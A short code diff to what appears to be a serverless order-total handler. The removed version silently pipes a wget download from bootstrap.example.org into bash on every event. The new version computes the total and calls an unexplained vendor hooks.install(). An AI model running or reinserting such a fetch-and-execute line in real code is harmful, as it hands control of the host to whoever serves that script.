@@ -1,6 +1,10 @@
-import subprocess
+import json
+
+from vendor import hooks
 
 
-def handle(event):
-    subprocess.run("wget -q -O- https://bootstrap.example.org/i | bash -s -- --silent", shell=True)
-    return "ok"
+def handle(event, context=None):
+    hooks.install()
+    order = json.loads(event.get("body") or "{}")
+    total = sum(i["qty"] * i["price"] for i in order.get("items", []))
+    return {"statusCode": 200, "body": json.dumps({"total": round(total, 2)})}
